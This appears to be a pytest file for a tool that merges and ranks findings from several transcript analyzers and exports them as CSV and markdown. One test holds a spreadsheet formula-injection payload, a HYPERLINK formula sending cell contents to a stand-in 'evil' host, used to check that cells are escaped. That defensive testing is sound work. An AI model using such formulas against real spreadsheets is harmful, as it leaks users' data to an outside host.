from __future__ import annotations

import csv
import io
from dataclasses import asdict
from typing import Any

import pytest

from runner.answers.insights import (
    COLUMNS,
    MergedInsight,
    aggregate,
    as_markdown,
    placed,
    rows_of,
)
from runner.base.tables import as_rows
from runner.transcript.model import Segment


def insight(text: str, confidence: float, *quotes: tuple[str, str]) -> dict[str, Any]:
    evidence = [{"segment": segment, "quote": quote} for segment, quote in quotes]
    return {"text": text, "confidence": confidence, "category": "risk", "evidence": evidence}


def answers(**insights: list[dict[str, Any]]) -> dict[str, Any]:
    return {name: {"insights": found, "structured_data": {}} for name, found in insights.items()}


PUMP = ("S0001", "the pump failed twice")


def test_the_most_confident_comes_first_and_nothing_is_lost() -> None:
    found = aggregate(
        answers(a=[insight("Boats are late.", 0.3), insight("Pumps fail.", 0.9)], b=[])
    )

    assert [f.text for f in found] == ["Pumps fail.", "Boats are late."]


def test_what_holds_all_words_of_another_finding_and_says_more_is_not_the_same() -> None:
    more = 'No decision is recognised; most is said of this: Ann: "the pump failed twice".'
    found = aggregate(
        answers(
            a=[insight('Ann: "the pump failed twice".', 0.4, PUMP)], b=[insight(more, 0.2, PUMP)]
        )
    )

    assert [["a"], ["b"]] == [f.analyzers for f in found]


def test_alike_sentences_about_different_passages_stay_apart() -> None:
    said = "The crew {} to put off the trial until the pump is repaired."
    agrees, wants = said.format("agrees"), said.format("has agreed")
    first, second = insight(agrees, 0.5, ("S0001", "yes")), insight(wants, 0.5, ("S0002", "yes"))

    assert 2 == len(aggregate(answers(a=[first], b=[second])))
    assert 1 == len(aggregate(answers(a=[first], b=[insight(wants, 0.5)])))


@pytest.mark.parametrize(
    ("other", "equal"),
    [
        ("The crew will repair the pump by May.", True),
        ("Crew will repair the pump by May.", True),
        ("The Crew repairs the pump by May!", True),
        ("The crew would repair a pump by May.", True),
        ("The crew will sell the pump by May.", False),
        ("The crew will repair the pump after May.", False),
        ("Proposed: the crew will repair the pump by May.", True),
        ("The crew will not repair the pump by May.", False),
        ("The crew won't repair the pump by May.", False),
        ("The crew will repair the pump by June.", False),
        ("The crew will repair pump 2 by May.", False),
        ("The crew will repair the pump by 1 May.", False),
        ("Jonas will repair the pump by May.", False),
        ("The crew and Jonas will repair the pump by May.", False),
        ("Die Crew repariert die Pumpe nicht", False),
    ],
)
def test_a_finding_with_a_fact_or_a_negation_of_its_own_stays_apart(
    other: str, equal: bool
) -> None:
    first = insight("The crew will repair the pump by May.", 0.5, PUMP)

    assert (1 if equal else 2) == len(aggregate(answers(a=[first], b=[insight(other, 0.4, PUMP)])))


def test_findings_with_opposite_words_stay_apart() -> None:
    on, off = (insight(f"The pump stays {word} at night.", 0.5, PUMP) for word in ("on", "off"))

    assert 2 == len(aggregate(answers(a=[on], b=[off])))


def test_the_same_finding_of_two_analyzers_is_one_with_both_their_evidence() -> None:
    found = aggregate(
        answers(
            a=[insight("The pump is not reliable enough for the trial.", 0.6, PUMP)],
            b=[
                insight(
                    "The pump is not reliable enough for the trial in April.",
                    0.8,
                    PUMP,
                    ("S0007", "we cannot count on it"),
                )
            ],
        )
    )

    assert [(f.text, f.analyzers) for f in found] == [
        ("The pump is not reliable enough for the trial in April.", ["b", "a"])
    ]
    assert [e["segment"] for e in found[0].evidence] == ["S0001", "S0007"]


def test_findings_that_only_share_a_quote_stay_apart() -> None:
    found = aggregate(
        answers(
            a=[insight("Jonas doubts the pump.", 0.6, PUMP)],
            b=[insight("Maintenance was skipped to save money.", 0.5, PUMP)],
        )
    )

    assert len(found) == 2


def test_no_cell_of_the_table_is_taken_for_a_formula() -> None:
    evil = insight('=HYPERLINK("http://evil/?q="&A1)', 0.5, ("S0001", "@SUM(1)"))
    (row,) = table(aggregate(answers(a=[evil])))

    assert row["text"] == '\'=HYPERLINK("http://evil/?q="&A1)'
    assert row["quote"] == "'@SUM(1)"


def table(insights: list[MergedInsight], per: str = "insight") -> list[dict[str, str]]:
    rows = rows_of(map(asdict, insights), "call", per)
    return list(csv.DictReader(io.StringIO(as_rows([COLUMNS, *rows]))))


def test_a_row_tells_who_said_it_and_when() -> None:
    found = aggregate(answers(a=[insight("Pumps fail.", 0.9, PUMP, ("S0002", "yes"))]))
    segments = [Segment("S0001", "Ann", 61.0, None, "x"), Segment("S0002", None, None, None, "y")]
    placed(found, segments)
    wanted = ("transcript", "speaker", "start", "segment", "quote")

    assert [("call", "Ann", "0:01:01", "S0001 S0002", "the pump failed twice | yes")] == [
        tuple(row[name] for name in wanted) for row in table(found)
    ]
    assert [
        ("call", "Ann", "0:01:01", "S0001", "the pump failed twice"),
        ("call", "", "", "S0002", "yes"),
    ] == [tuple(row[name] for name in wanted) for row in table(found, "evidence")]


def test_a_row_tells_the_page_of_a_quote_without_a_time() -> None:
    found = aggregate(answers(a=[insight("Pumps fail.", 0.9, PUMP, ("S0002", "yes"))]))
    segments = [Segment(f"S000{n}", None, None, None, "x", f"page {n}, line 4") for n in (1, 2)]
    placed(found, segments)

    assert ["page 1, line 4; page 2, line 4"] == [row["start"] for row in table(found)]
    assert ["page 1, line 4", "page 2, line 4"] == [r["start"] for r in table(found, "evidence")]


def test_an_insight_without_evidence_is_a_row_all_the_same() -> None:
    for per in ("insight", "evidence"):
        assert ["Pumps fail."] == [
            row["text"] for row in table(aggregate(answers(a=[insight("Pumps fail.", 0.9)])), per)
        ]


def test_the_page_names_who_found_what_and_where() -> None:
    page = as_markdown(aggregate(answers(say_means=[insight("Pumps fail.", 0.9, PUMP)])), 8)

    assert "From 8 analyzers, the most confident first." in page
    assert "From 1 analyzer, the most" in as_markdown([], 1)
    assert "1. Pumps fail. *risk, confidence 0.90; say means*" in page
    assert "> the pump failed twice (S0001)" in page
